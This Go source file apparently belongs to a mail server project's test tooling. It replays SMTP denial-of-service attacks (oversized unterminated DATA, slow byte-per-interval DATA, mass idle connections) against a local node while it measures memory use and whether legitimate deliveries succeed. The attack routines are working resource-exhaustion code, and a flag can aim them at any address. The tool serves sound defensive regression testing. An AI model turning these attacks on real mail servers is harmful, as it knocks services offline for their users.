// Command attack replays the SMTP resource attacks of issue #11 against a
// running node and reports, every few seconds and at the end, the node's
// memory (VmRSS from /proc/PID/status) and how a legitimate client fares
// meanwhile (one small delivery per -legit-every from 127.0.0.1, with the
// patience of -legit-timeout).
//
//	attack [flags] smtp-bigdata   -conns sessions in DATA, each sending -size without the final dot, held (V4)
//	attack [flags] smtp-slow      -conns sessions in DATA sending one byte per -interval (V5)
//	attack [flags] smtp-conns     -conns idle connections from -sources addresses (V6)
//
// Attack connections come from 127.x.y.z loopback addresses (Linux routes
// all of 127/8 to lo): -sources of them, each in its own /24 with -nets.
// With -exec BIN it starts "BIN dev" in a temporary directory first (SMTP
// on 127.0.0.1:2525, user demo@example.test) and stops it at the end, so
// two binaries can be compared with one command each.
package main

import (
	"bufio"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	gosmtp "github.com/emersion/go-smtp"
)

type options struct {
	addr, rcpt   string
	pid          int
	exec         string
	duration     time.Duration
	legitEvery   time.Duration
	legitTimeout time.Duration
	conns        int
	sources      int
	nets         bool
	size         int64
	interval     time.Duration
	report       time.Duration
}

func main() {
	var o options
	fs := flag.NewFlagSet("attack", flag.ExitOnError)
	fs.StringVar(&o.addr, "smtp", "127.0.0.1:2525", "the node's SMTP (MX) address")
	fs.StringVar(&o.rcpt, "rcpt", "demo@example.test", "an existing local recipient")
	fs.IntVar(&o.pid, "pid", 0, "the node's process ID, for its memory (with -exec: the started one)")
	fs.StringVar(&o.exec, "exec", "", "start `BIN` dev in a temporary directory and attack it")
	fs.DurationVar(&o.duration, "duration", 60*time.Second, "how long the attack lasts")
	fs.DurationVar(&o.legitEvery, "legit-every", time.Second, "a legitimate delivery starts this often")
	fs.DurationVar(&o.legitTimeout, "legit-timeout", 60*time.Second, "how long a legitimate client waits for the whole delivery")
	fs.IntVar(&o.conns, "conns", 64, "attacking connections")
	fs.IntVar(&o.sources, "sources", 1, "attacking client addresses")
	fs.BoolVar(&o.nets, "nets", false, "put every attacking address in its own /24")
	size := fs.String("size", "48M", "smtp-bigdata: bytes each session sends without the final dot")
	fs.DurationVar(&o.interval, "interval", 10*time.Second, "smtp-slow: one byte per this")
	fs.DurationVar(&o.report, "report", 5*time.Second, "print a line this often")
	fs.Usage = func() {
		fmt.Fprintf(os.Stderr, "usage: attack [flags] smtp-bigdata|smtp-slow|smtp-conns\n")
		fs.PrintDefaults()
	}
	_ = fs.Parse(os.Args[1:])
	if fs.NArg() != 1 {
		fs.Usage()
		os.Exit(2)
	}
	n, err := parseSize(*size)
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack: -size:", err)
		os.Exit(2)
	}
	o.size = n
	var attack func(ctx context.Context, o *options, i int, st *stats)
	switch fs.Arg(0) {
	case "smtp-bigdata":
		attack = bigData
	case "smtp-slow":
		attack = slowData
	case "smtp-conns":
		attack = idleConn
	default:
		fs.Usage()
		os.Exit(2)
	}
	if err := run(&o, fs.Arg(0), attack); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

type stats struct {
	open, refused, closed atomic.Int64 // attacker side
	legitOK, legitFail    atomic.Int64
	mu                    sync.Mutex
	latencies             []time.Duration
	failures              map[string]int
}

func (s *stats) fail(why string) {
	s.legitFail.Add(1)
	s.mu.Lock()
	s.failures[why]++
	s.mu.Unlock()
}

func run(o *options, name string, attack func(context.Context, *options, int, *stats)) error {
	if o.exec != "" {
		stop, pid, err := startNode(o)
		if err != nil {
			return err
		}
		defer stop()
		o.pid = pid
	}
	if o.pid == 0 {
		return errors.New("-pid or -exec is required (the node's memory is the point)")
	}
	st := &stats{failures: map[string]int{}}
	base, _ := rss(o.pid)
	fmt.Printf("attack %s on %s (pid %d): %d connections from %d addresses (own /24s: %v), %s; node RSS before: %d MiB\n",
		name, o.addr, o.pid, o.conns, o.sources, o.nets, o.duration, base>>20)
	ctx, cancel := context.WithTimeout(context.Background(), o.duration)
	defer cancel()
	var wg sync.WaitGroup
	for i := 0; i < o.conns; i++ {
		wg.Add(1)
		go func() { defer wg.Done(); attack(ctx, o, i, st) }()
	}
	wg.Add(1)
	go func() { defer wg.Done(); legit(ctx, o, st) }()

	fmt.Printf("\n%6s  %8s  %8s  %8s  %8s  %8s  %8s\n", "t", "RSS MiB", "atk open", "refused", "cut off", "legit ok", "fail")
	var peak int64
	tick := time.NewTicker(o.report)
	start := time.Now()
	sample := time.NewTicker(200 * time.Millisecond)
loop:
	for {
		select {
		case <-ctx.Done():
			break loop
		case <-sample.C:
			if r, err := rss(o.pid); err == nil && r > peak {
				peak = r
			}
		case <-tick.C:
			r, _ := rss(o.pid)
			fmt.Printf("%6s  %8d  %8d  %8d  %8d  %8d  %8d\n", time.Since(start).Round(time.Second), r>>20,
				st.open.Load(), st.refused.Load(), st.closed.Load(), st.legitOK.Load(), st.legitFail.Load())
		}
	}
	wg.Wait()
	ok, fail := st.legitOK.Load(), st.legitFail.Load()
	rate := 0.0
	if ok+fail > 0 {
		rate = 100 * float64(ok) / float64(ok+fail)
	}
	st.mu.Lock()
	sort.Slice(st.latencies, func(i, j int) bool { return st.latencies[i] < st.latencies[j] })
	p50, p99 := pct(st.latencies, 50), pct(st.latencies, 99)
	fmt.Printf("\nsummary %s: node RSS before %d MiB, peak %d MiB; legitimate deliveries %d/%d ok (%.1f%%), latency p50 %s p99 %s",
		name, base>>20, peak>>20, ok, ok+fail, rate, p50, p99)
	if len(st.failures) > 0 {
		fmt.Printf("; failures:")
		for k, v := range st.failures {
			fmt.Printf(" %dx %q", v, k)
		}
	}
	fmt.Println()
	st.mu.Unlock()
	return nil
}

func pct(d []time.Duration, p int) time.Duration {
	if len(d) == 0 {
		return 0
	}
	return d[(len(d)-1)*p/100].Round(time.Millisecond)
}

// legit sends one message per legitEvery, each in its own goroutine.
func legit(ctx context.Context, o *options, st *stats) {
	tick := time.NewTicker(o.legitEvery)
	defer tick.Stop()
	var wg sync.WaitGroup
	defer wg.Wait()
	for i := 0; ; i++ {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			start := time.Now()
			if err := deliver(ctx, o, i); err != nil {
				msg := err.Error()
				if len(msg) > 60 {
					msg = msg[:60]
				}
				st.fail(msg)
				return
			}
			st.legitOK.Add(1)
			st.mu.Lock()
			st.latencies = append(st.latencies, time.Since(start))
			st.mu.Unlock()
		}()
	}
}

var (
	errGaveUp = errors.New("no reply within -legit-timeout")
	errEnded  = errors.New("unfinished when the attack ended")
)

// deliver sends legitimate message i. A delivery still waiting when the
// attack ends fails: what it would have got under a lasting attack is
// not known.
func deliver(ctx context.Context, o *options, i int) (err error) {
	conn, err := net.DialTimeout("tcp", o.addr, 10*time.Second)
	if err != nil {
		return err
	}
	// go-smtp's client sets its own deadlines per command: give up after
	// legitTimeout whatever it is doing, like an MTA's delivery timeout.
	var why atomic.Value
	timer := time.AfterFunc(o.legitTimeout, func() { why.Store(errGaveUp); conn.Close() })
	defer timer.Stop()
	stop := context.AfterFunc(ctx, func() { why.Store(errEnded); conn.Close() })
	defer stop()
	defer func() {
		if w, ok := why.Load().(error); ok && err != nil {
			err = w
		}
	}()
	c := gosmtp.NewClient(conn)
	defer c.Close()
	if err := c.Hello("legit.test"); err != nil {
		return err
	}
	if err := c.Mail("friend@legit.test", nil); err != nil {
		return err
	}
	if err := c.Rcpt(o.rcpt, nil); err != nil {
		return err
	}
	w, err := c.Data()
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "From: friend@legit.test\r\nTo: %s\r\nSubject: legit %d %d\r\nMessage-ID: <%d.%d@legit.test>\r\n\r\nhello %d\r\n",
		o.rcpt, i, time.Now().UnixNano(), i, time.Now().UnixNano(), i)
	if err := w.Close(); err != nil {
		return err
	}
	return c.Quit()
}

// source returns attacker i's local address.
func source(o *options, i int) *net.TCPAddr {
	k := i % max(o.sources, 1)
	if o.nets {
		return &net.TCPAddr{IP: net.IPv4(127, byte(1+k/250), byte(k%250), 1)}
	}
	return &net.TCPAddr{IP: net.IPv4(127, 1, byte(k/250), byte(1+k%250))}
}

// session is one attacking connection with a line reader.
type session struct {
	c net.Conn
	r *bufio.Reader
}

func dial(ctx context.Context, o *options, i int) (*session, error) {
	d := net.Dialer{Timeout: 10 * time.Second, LocalAddr: source(o, i)}
	c, err := d.DialContext(ctx, "tcp", o.addr)
	if err != nil {
		return nil, err
	}
	s := &session{c: c, r: bufio.NewReader(c)}
	go func() { <-ctx.Done(); c.Close() }()
	return s, nil
}

// reply reads one (possibly multi-line) reply and returns its last line.
func (s *session) reply() (string, error) {
	for {
		line, err := s.r.ReadString('\n')
		if err != nil {
			return "", err
		}
		if len(line) < 4 || line[3] != '-' {
			return strings.TrimSpace(line), nil
		}
	}
}

// toData opens a session up to DATA's 354; refused says whether the
// server said no (as opposed to the connection failing).
func toData(ctx context.Context, o *options, i int) (*session, bool, error) {
	s, err := dial(ctx, o, i)
	if err != nil {
		return nil, false, err
	}
	for _, cmd := range []string{"", "EHLO attacker.test", "MAIL FROM:<a@attacker.test>", "RCPT TO:<" + o.rcpt + ">", "DATA"} {
		if cmd != "" {
			fmt.Fprintf(s.c, "%s\r\n", cmd)
		}
		line, err := s.reply()
		if err != nil {
			s.c.Close()
			return nil, false, err
		}
		if line[0] != '2' && line[0] != '3' {
			s.c.Close()
			return nil, true, fmt.Errorf("%s: %s", cmd, line)
		}
	}
	return s, false, nil
}

// held runs one attacking connection again and again until ctx ends.
func held(ctx context.Context, o *options, i int, st *stats, body func(*session) error) {
	for ctx.Err() == nil {
		s, refused, err := toData(ctx, o, i)
		if err != nil {
			if refused {
				st.refused.Add(1)
			}
			sleep(ctx, 500*time.Millisecond)
			continue
		}
		st.open.Add(1)
		err = body(s)
		st.open.Add(-1)
		s.c.Close()
		if ctx.Err() == nil {
			st.closed.Add(1) // the server ended it
			sleep(ctx, 500*time.Millisecond)
		}
		_ = err
	}
}

func sleep(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// bigData sends size bytes of DATA without the final dot and holds.
func bigData(ctx context.Context, o *options, i int, st *stats) {
	line := strings.Repeat("y", 998) + "\r\n"
	chunk := []byte(strings.Repeat(line, 64))
	held(ctx, o, i, st, func(s *session) error {
		fmt.Fprintf(s.c, "Subject: big %d\r\n\r\n", i)
		for n := int64(0); n < o.size; n += int64(len(chunk)) {
			if _, err := s.c.Write(chunk); err != nil {
				return err
			}
		}
		_, err := io.Copy(io.Discard, s.r) // hold until the server or ctx ends it
		return err
	})
}

// slowData sends a byte per interval.
func slowData(ctx context.Context, o *options, i int, st *stats) {
	held(ctx, o, i, st, func(s *session) error {
		done := make(chan error, 1)
		go func() { _, err := io.Copy(io.Discard, s.r); done <- err }()
		t := time.NewTicker(o.interval)
		defer t.Stop()
		for {
			select {
			case err := <-done:
				return err
			case <-t.C:
				if _, err := s.c.Write([]byte("z")); err != nil {
					return err
				}
			}
		}
	})
}

// idleConn holds a connection after the greeting, doing nothing.
func idleConn(ctx context.Context, o *options, i int, st *stats) {
	for ctx.Err() == nil {
		s, err := dial(ctx, o, i)
		if err != nil {
			sleep(ctx, 500*time.Millisecond)
			continue
		}
		line, err := s.reply()
		if err != nil || !strings.HasPrefix(line, "220") {
			st.refused.Add(1)
			s.c.Close()
			sleep(ctx, 500*time.Millisecond)
			continue
		}
		st.open.Add(1)
		_, _ = io.Copy(io.Discard, s.r)
		st.open.Add(-1)
		s.c.Close()
		if ctx.Err() == nil {
			st.closed.Add(1)
			sleep(ctx, 500*time.Millisecond)
		}
	}
}

// startNode runs "BIN dev" in a temporary directory until stop.
func startNode(o *options) (stop func(), pid int, err error) {
	dir, err := os.MkdirTemp("", "attack-node-")
	if err != nil {
		return nil, 0, err
	}
	cmd := exec.Command(o.exec, "dev", "--dir", dir, "--http-port", "0", "--port", "7191")
	log, err := os.Create(dir + ".log")
	if err != nil {
		return nil, 0, err
	}
	cmd.Stdout, cmd.Stderr = log, log
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		return nil, 0, err
	}
	stop = func() {
		_ = cmd.Process.Signal(syscall.SIGTERM)
		done := make(chan struct{})
		go func() { _ = cmd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(20 * time.Second):
			_ = cmd.Process.Kill()
			<-done
		}
		log.Close()
		_ = os.RemoveAll(dir)
	}
	// Ready when the recipient is accepted.
	deadline := time.Now().Add(90 * time.Second)
	for {
		if err := probe(o); err == nil {
			return stop, cmd.Process.Pid, nil
		} else if time.Now().After(deadline) {
			stop()
			return nil, 0, fmt.Errorf("%s dev did not accept mail for %s in 90 s (log %s.log): %v", o.exec, o.rcpt, dir, err)
		}
		time.Sleep(500 * time.Millisecond)
	}
}

func probe(o *options) error {
	c, err := gosmtp.Dial(o.addr)
	if err != nil {
		return err
	}
	defer c.Close()
	if err := c.Hello("probe.test"); err != nil {
		return err
	}
	if err := c.Mail("probe@legit.test", nil); err != nil {
		return err
	}
	return c.Rcpt(o.rcpt, nil)
}

// rss returns the resident set size of pid.
func rss(pid int) (int64, error) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0, err
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			f := strings.Fields(v)
			if len(f) >= 1 {
				kb, err := strconv.ParseInt(f[0], 10, 64)
				return kb << 10, err
			}
		}
	}
	return 0, errors.New("no VmRSS")
}

func parseSize(s string) (int64, error) {
	mult := int64(1)
	switch {
	case strings.HasSuffix(s, "K"):
		mult, s = 1<<10, strings.TrimSuffix(s, "K")
	case strings.HasSuffix(s, "M"):
		mult, s = 1<<20, strings.TrimSuffix(s, "M")
	case strings.HasSuffix(s, "G"):
		mult, s = 1<<30, strings.TrimSuffix(s, "G")
	}
	n, err := strconv.ParseInt(s, 10, 64)
	if err != nil || n < 0 {
		return 0, fmt.Errorf("%q is not a size such as 48M", s)
	}
	return n * mult, nil
}
